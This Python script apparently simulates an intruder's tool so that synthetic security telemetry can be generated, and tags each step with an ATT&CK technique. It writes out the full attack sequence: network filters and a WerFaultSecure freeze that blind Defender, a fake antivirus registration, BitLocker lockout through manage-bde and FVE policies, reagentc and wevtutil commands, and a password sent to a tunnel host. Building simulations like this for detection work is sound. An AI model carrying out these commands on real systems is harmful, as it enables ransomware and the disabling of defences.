"""An intruder's tool for blinding a machine (network filters against the antivirus, WerFaultSecure that holds it, a made-up
antivirus), then a script that locks the drive with BitLocker. Resembles EDRSilencer, EDR-Freeze, ShrinkLocker."""
from details import thread_create
from scenery import MICROSOFT, Desktop

SETTING = {"start": "2025-10-06T06:51:27", "user": "BUERO\\kraus", "home": "C:\\Users\\kraus", "computer": "BUERO-PC4",
           "os_version": (10, 0, 22631)}
MAILBOX = ("203.0.113.170", 443)
FILTERS = r"HKLM\System\CurrentControlSet\Services\BFE\Parameters\Policy\Persistent\Filter" + "\\"
FILTER_IDS = ["{7f2f8a51-3c0d-4a86-9f0c-3b1c5d1a2e01}", "{7f2f8a51-3c0d-4a86-9f0c-3b1c5d1a2e02}",
              "{7f2f8a51-3c0d-4a86-9f0c-3b1c5d1a2e03}", "{7f2f8a51-3c0d-4a86-9f0c-3b1c5d1a2e04}"]
PROVIDER = r"HKLM\SOFTWARE\Microsoft\Security Center\Provider\Av"
PRODUCT = r"{C2A7E5D0-41F6-4F0A-8C57-0F5A2B9D7E63}"
FVE = r"HKLM\SOFTWARE\Policies\Microsoft\FVE"
LOCK = {"UseAdvancedStartup": 1, "EnableBDEWithNoTPM": 1, "UseTPM": 2, "UseTPMPIN": 2, "UseTPMKey": 2, "UseTPMKeyPIN": 2}
SYSTEM_POLICY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System"
TASK, TASK_ID = "TuneCenter", "{A41C07E2-0E5B-4F0E-8E1E-6E0B7C9D3F10}"
TASK_CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"


def also(c, *processes):
    """The behaviour just told was done through these processes too."""
    c.behaviours[-1].pids.update(process.pid for process in processes)


def run(c, parent, program, arguments):
    return c.spawn(parent, c.system_root + "\\System32\\" + program + ".exe", "%s %s" % (program, arguments), **MICROSOFT)


def end(c, *processes):
    for process in processes:
        c.exit(process)


def register_task(c, scheduler):
    tree, task = TASK_CACHE + "\\Tree\\" + TASK, TASK_CACHE + "\\Tasks\\" + TASK_ID
    c.drop(scheduler, r"C:\Windows\System32\Tasks" + "\\" + TASK, 3060)
    c.key(scheduler, tree, new=True)
    c.set_value(scheduler, tree + r"\Id", "REG_SZ", TASK_ID)
    c.key(scheduler, task, new=True)
    c.set_value(scheduler, task + r"\Path", "REG_SZ", "\\" + TASK)


def register_antivirus(c, center, reporter):
    """The Security Center takes note of an antivirus."""
    key = PROVIDER + "\\" + PRODUCT
    c.key(center, key, new=True)
    for name, text in (("DISPLAYNAME", "Tune Center Antivirus"), ("GUID", PRODUCT), ("PRODUCTEXE", reporter),
                       ("REPORTINGEXE", reporter)):
        c.set_value(center, key + "\\" + name, "REG_SZ", text)
    c.set_value(center, key + r"\STATE", "REG_DWORD", 266240)


def blind(c, desktop, tool, services):
    """What the tool does against the antivirus."""
    system32 = c.system_root + "\\System32\\"
    filters, center = services
    with c.behaviour("asks which antivirus is registered", "low", "T1518.001", doer=tool,
                     about=("Security Center", r"Provider\Av")):
        c.open_key(tool, PROVIDER)
        c.query(tool, PROVIDER + r"\{D68DDC3A-831F-4fae-9E44-DA132C1ACF46}\DISPLAYNAME", "REG_SZ", "Windows Defender")
    with c.behaviour("has the filter engine keep filters that cut the antivirus off", "high",
                     ("T1685", "T1686", "T1686.003"), doer=tool, about=("BFE", r"Persistent\Filter", FILTER_IDS[0])):
        c.load(tool, system32 + "fwpuclnt.dll")
        for name in ("MsMpEng.exe", "NisSrv.exe"):
            c.open(tool, desktop.defender.image.rsplit("\\", 1)[0] + "\\" + name)
        for number, identity in enumerate(FILTER_IDS):
            c.set_value(filters, FILTERS + identity, "REG_BINARY", bytes([number]) * 424)
    holder = c.home + r"\AppData\Local\Temp\t.txt"
    with c.behaviour("starts WerFaultSecure on the antivirus' process, which so stands still", "high", "T1685", doer=tool,
                     about="WerFaultSecure.exe"):
        c.drop(tool, holder, 0)
        frozen = run(c, tool, "WerFaultSecure", "/h /pid %d /tid %d /encfile 188 /cancel 192 /type 268310" % (
            desktop.defender.pid, desktop.defender.tids[0]))
        c.load(frozen, system32 + "dbgcore.dll")
    also(c, frozen)
    library = tool.image.rsplit("\\", 1)[0] + r"\tcwsc.dll"
    c.drop(tool, library, 66_000)
    with c.behaviour("Windows' task manager, started by the tool, loads the tool's library", "high",
                     ("T1055.001", "T1055", "T1574.001", "T1574"), doer=tool, about="tcwsc.dll"):
        manager = c.spawn(tool, system32 + "Taskmgr.exe", system32 + "Taskmgr.exe", **MICROSOFT)
        c.add(manager, "Thread Create", thread_create(c.new_pid()))
        c.load(manager, library)
    also(c, manager)
    with c.behaviour("registers a made-up antivirus", "high", ("T1685", "T1685.003", "T1036"), doer=(tool, manager),
                     about=(r"Provider\Av", "Tune Center Antivirus", PRODUCT)):
        c.load(manager, system32 + "wscapi.dll")
        register_antivirus(c, center, system32 + "Taskmgr.exe")
    c.wait(20)
    c.exit(frozen, 1)
    c.set_value(desktop.defender, r"HKLM\SOFTWARE\Microsoft\Windows Defender\PassiveMode", "REG_DWORD", 1)
    with c.behaviour("registers a task for itself", "medium", "T1053.005", doer=tool, about=TASK):
        c.load(tool, system32 + "taskschd.dll")
        register_task(c, desktop.scheduler)


def lock(c, desktop, tool):
    """What the script does with the drive."""
    system32 = c.system_root + "\\System32\\"
    script = r"C:\ProgramData\Microsoft\Windows\Templates\Disk.vbs"
    with c.behaviour("drops a script and runs it", "medium", "T1059.005", doer=tool, about="Disk.vbs"):
        c.drop(tool, script, 17_800)
        host = run(c, tool, "wscript", '//B "%s"' % script)
        c.load(host, system32 + "vbscript.dll")
        c.read(host, script, 17_800)
    also(c, host)
    c.load(host, system32 + r"wbem\wbemdisp.dll")
    with c.behaviour("sets BitLocker's policies so that a password locks the drive", "high", ("T1486", "T1112"),
                     doer=(host, tool), about=("FVE", "UseAdvancedStartup", "EnableBDEWithNoTPM")):
        c.key(host, FVE, new=True)
        for name, number in LOCK.items():
            c.set_value(host, FVE + "\\" + name, "REG_DWORD", number)
    with c.behaviour("turns off the recovery environment", "high", "T1490", doer=(host, tool), about="reagentc"):
        agent = run(c, host, "reagentc", "/disable")
        c.drop(agent, r"C:\Windows\System32\Recovery\ReAgent.xml", 1_100, opened=3)
    also(c, agent)
    end(c, agent)
    with c.behaviour("takes away BitLocker's own keys and locks the drive with a new password", "critical",
                     ("T1486", "T1490"), doer=(host, tool), about="manage-bde"):
        tools = []
        for arguments in ("-on C: -s -used", "-protectors -add C: -rp " + "482713-" * 7 + "482713",
                          "-protectors -delete C: -type TPM"):
            tools.append(run(c, host, "manage-bde", arguments))
            c.load(tools[-1], system32 + "fveapi.dll")
            c.exit(tools[-1])
    also(c, *tools)
    with c.behaviour("sends the password to a tunnel's address", "medium", ("T1041", "T1071.001", "T1102", "T1572", "T1567"),
                     doer=(host, tool), about=("trycloudflare", MAILBOX[0])):
        c.load(host, system32 + "winhttp.dll")
        desktop.resolve()
        c.exchange(host, MAILBOX, 50880, [517, 820], [310])
    with c.behaviour("puts a demand before the logon", "medium", ("T1491.001", "T1112"), doer=(host, tool),
                     about="legalnotice"):
        c.set_value(host, SYSTEM_POLICY + r"\legalnoticecaption", "REG_SZ", "YOUR DRIVE IS LOCKED")
        c.set_value(host, SYSTEM_POLICY + r"\legalnoticetext", "REG_SZ", "Write to conspiracyid9@box.example")
    with c.behaviour("clears event logs", "high", "T1685.005", doer=(host, tool), about="wevtutil"):
        tools = [run(c, host, "wevtutil", 'cl "Windows PowerShell"'), run(c, host, "wevtutil", "cl Security")]
    also(c, *tools)
    end(c, *tools)
    with c.behaviour("restarts the machine", "medium", "T1529", doer=(host, tool), about="shutdown"):
        off = run(c, host, "shutdown", "/r /f /t 5")
    also(c, off)
    end(c, off, host)


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    c.host(MAILBOX[0], "earn-scottish-lamp-hats.trycloudflare.com")
    services = [c.process(system32 + "svchost.exe", desktop.services, system32 + line, started_before=True, session=0,
                          user="NT AUTHORITY\\LOCAL SERVICE", integrity="System", sid="S-1-5-19",
                          company="Microsoft Corporation")
                for line in ("svchost.exe -k LocalServiceNoNetworkFirewall -p",
                             "svchost.exe -k LocalServiceNetworkRestricted -p -s wscsvc")]
    desktop.murmur(14)
    tool = c.spawn(desktop.explorer, r"C:\Users\Public\Documents\TuneCenter.exe", integrity="High")
    for name in ("kernel32", "advapi32", "rpcrt4", "shell32"):
        c.load(tool, system32 + name + ".dll")
    blind(c, desktop, tool, services)
    desktop.murmur(6)
    lock(c, desktop, tool)
    c.exit(tool)
    desktop.murmur(4)
